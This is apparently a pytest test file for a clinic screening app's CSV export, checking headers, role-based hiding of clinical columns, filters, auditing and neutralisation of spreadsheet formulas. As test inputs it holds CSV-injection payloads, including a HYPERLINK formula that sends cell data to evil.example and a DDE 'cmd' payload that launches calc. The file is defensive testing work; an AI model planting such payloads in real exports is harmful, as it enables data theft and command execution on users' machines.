"""CSV export of the filtered queue: BOM, header, one row per screening,
formulas neutralised, audited."""

from __future__ import annotations

import csv
import io

import pytest
from flask import Flask
from flask.testing import FlaskClient
from werkzeug.test import TestResponse

from screening.practitioner.export import WORD_JOINER, neutralise, phone_cell
from screening.practitioner.words import rule_titles
from tests.helpers import NAME, add_screening, audit_rows, decide, override_to_eligible

# The times are on the shipped clinic.yaml's clock (timezone: Europe/London), the header says so.
HEADER = [
    "Reference",
    "Screened at (Europe/London)",
    "Procedure",
    "Source",
    "Language",
    "Patient name",
    "Date of birth",
    "Email",
    "Phone",
    "Verdict",
    "Rules fired",
    "Re-screen after",
    "Rules version",
    "Reviewed",
    "Current decision",
    "Deferred until (decision)",
    "Decision",
    "Decided by",
    "Decided at (Europe/London)",
    "Override reason",
    "Comment",
    "Answers confirmed at (Europe/London)",
    "Expired",
]
# What the answer pages show and the queue does not: only roles that open those pages export it.
CLINICAL = ["Rules fired", "Override reason", "Comment"]
# An administrator's export (administrators do not open answer pages).
ADMIN_HEADER = [h for h in HEADER if h not in CLINICAL]


def rows(response: TestResponse, header: list[str] = ADMIN_HEADER) -> list[dict[str, str]]:
    raw = response.get_data()
    assert raw.startswith(b"\xef\xbb\xbf")
    text = raw.decode("utf-8-sig")
    reader = csv.reader(io.StringIO(text, newline=""))
    assert next(reader) == header
    return [dict(zip(header, row, strict=True)) for row in reader]


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ('=HYPERLINK("http://evil.example","x")', '\'=HYPERLINK("http://evil.example","x")'),
        ("+7 912 345 67 89", "'+7 912 345 67 89"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("  =1", "'  =1"),
        ("Anna Petrova", "Anna Petrova"),
        ("Анна = Петрова", "Анна = Петрова"),
        ("a@example.com", "a@example.com"),
        ("2026-11-24", "2026-11-24"),
        ("", ""),
        (None, ""),
        (1, "1"),
    ],
)
def test_neutralise(value: object, cell: str) -> None:
    assert neutralise(value) == cell


def test_export_has_a_header_and_one_row_per_screening(
    app: Flask, doctor: FlaskClient, admin: FlaskClient, ruleset
) -> None:
    clear = add_screening(app, "Анна Петрова")
    review = add_screening(app, "Boris Ivanov", keloids="unsure", herpes_history="yes")
    decide(doctor, review["reference"], status="deferred", reason_code="other", defer_until="2099-02-01")
    response = admin.get("/practitioner/export.csv")
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert response.headers["Content-Disposition"].startswith('attachment; filename="screenings-')
    assert response.headers["Cache-Control"] == "no-store"
    exported = rows(response)
    assert [r["Reference"] for r in exported] == [review["reference"], clear["reference"]]
    first, second = exported
    titles = rule_titles(ruleset, "en")
    assert second["Patient name"] == "Анна Петрова"
    assert (first["Verdict"], first["Reviewed"], first["Current decision"]) == ("review", "yes", "deferred")
    assert first["Deferred until (decision)"] == "2099-02-01"
    assert (first["Decision"], first["Decided by"]) == ("overridden", NAME)
    assert titles["herpes_history"] not in response.get_data(as_text=True)  # no rules fired for an administrator
    assert first["Decided at (Europe/London)"].startswith(first["Screened at (Europe/London)"][:10])
    # Readable as typed (an invisible word joiner in front), and no formula.
    assert first["Phone"] == WORD_JOINER + "+7 912 345 67 89"
    assert (second["Verdict"], second["Reviewed"], second["Current decision"], second["Expired"]) == (
        "eligible",
        "no",
        "",
        "no",
    )
    assert second["Date of birth"] == "1990-05-31"
    assert second["Email"] == "anna@example.com"


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("+7 912 345 67 89", WORD_JOINER + "+7 912 345 67 89"),
        ("8 (912) 345-67-89", "8 (912) 345-67-89"),
        ("-12 34 56", WORD_JOINER + "-12 34 56"),  # digits and dashes only: a sum at worst, never a call
        ("=1+1", "'=1+1"),  # not a phone number as the app checks them: neutralised
        ("+1 =HYPERLINK()", "'+1 =HYPERLINK()"),
        (None, ""),
    ],
)
def test_phone_cells_read_as_typed_and_formulas_stay_neutralised(value: object, cell: str) -> None:
    assert phone_cell(value) == cell


def test_an_administrators_export_has_the_override_but_not_its_reasoning(
    app: Flask, doctor: FlaskClient, admin: FlaskClient, ruleset
) -> None:
    """Administrators cannot open answer pages: their export names who decided what, but
    holds neither the rules that fired nor the practitioner's override reason and comment."""
    screening = add_screening(app, keloids="unsure")
    decided = override_to_eligible(
        doctor, screening["reference"], "clarified_with_patient", "=No keloids; checked the scar on the arm"
    )
    assert decided.status_code == 303
    response = admin.get("/practitioner/export.csv")
    (row,) = rows(response)
    assert (row["Decision"], row["Decided by"], row["Current decision"]) == ("overridden", NAME, "eligible")
    text = response.get_data(as_text=True)
    for clinical in ("checked the scar", "Clarified with the patient", rule_titles(ruleset, "en")["unsure_answer"]):
        assert clinical not in text, clinical


@pytest.mark.parametrize(
    ("role", "clinical"), [("practitioner", True), ("admin", False), ("reception", False), (None, False)]
)
def test_export_columns_follow_the_role_table(role: str | None, clinical: bool) -> None:
    """The rules fired and the override reasoning go only to roles that open the answer pages."""
    from screening.practitioner.export import export_columns

    headers = [header.format(tz="Europe/London") for header, _ in export_columns(role)]
    assert headers == (HEADER if clinical else ADMIN_HEADER)


def test_a_formula_typed_as_a_name_cannot_run(app: Flask, doctor: FlaskClient, admin: FlaskClient) -> None:
    add_screening(app, '=HYPERLINK("http://evil.example/?"&A1,"Click")')
    add_screening(app, "@SUM(1+1)*cmd|' /C calc'!A0")
    exported = rows(admin.get("/practitioner/export.csv"))
    names = [r["Patient name"] for r in exported]
    assert names == ["'@SUM(1+1)*cmd|' /C calc'!A0", '\'=HYPERLINK("http://evil.example/?"&A1,"Click")']
    for row in exported:
        for cell in row.values():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))


@pytest.mark.parametrize(
    ("query_string", "expected"),
    [
        ({}, {"clear", "review", "deferred"}),
        ({"status": "review"}, {"review"}),
        ({"reviewed": "yes"}, {"deferred"}),
        ({"q": "Ivanov"}, {"review"}),
    ],
)
def test_export_follows_the_queue_filters(
    app: Flask, doctor: FlaskClient, admin: FlaskClient, query_string: dict[str, str], expected: set[str]
) -> None:
    made = {
        "clear": add_screening(app, "Anna Petrova"),
        "review": add_screening(app, "Boris Ivanov", keloids="unsure"),
        "deferred": add_screening(app, "Clara Smith", pregnant="yes"),
    }
    decide(doctor, made["deferred"]["reference"], status="deferred")
    by_reference = {s["reference"]: key for key, s in made.items()}
    exported = rows(admin.get("/practitioner/export.csv", query_string=query_string))
    assert {by_reference[r["Reference"]] for r in exported} == expected


def test_export_holds_every_match_not_one_page(app: Flask, doctor: FlaskClient, admin: FlaskClient) -> None:
    made = [add_screening(app, f"Patient {i}")["reference"] for i in range(230)]
    exported = rows(admin.get("/practitioner/export.csv"))
    assert [r["Reference"] for r in exported] == made[::-1]


def test_the_queue_links_to_the_export_of_its_filters(app: Flask, doctor: FlaskClient, admin: FlaskClient) -> None:
    html = admin.get("/practitioner/?status=review&reviewed=no&q=Anna").get_data(as_text=True)
    assert 'href="/practitioner/export.csv?status=review&amp;reviewed=no&amp;q=Anna"' in html


def test_export_is_audited_without_the_search_text(app: Flask, doctor: FlaskClient, admin: FlaskClient) -> None:
    add_screening(app, "Anna Petrova")
    admin.get("/practitioner/export.csv?q=Petrova&since=2026-01-01")
    (row,) = audit_rows(app, "export.csv")
    assert row["details"] == '{"since": "2026-01-01", "search": true}'
    assert "Petrova" not in str(row)


def test_export_refuses_bad_filters(app: Flask, doctor: FlaskClient, admin: FlaskClient) -> None:
    response = admin.get("/practitioner/export.csv?since=someday")
    assert response.status_code == 400
    assert audit_rows(app, "export.csv") == []
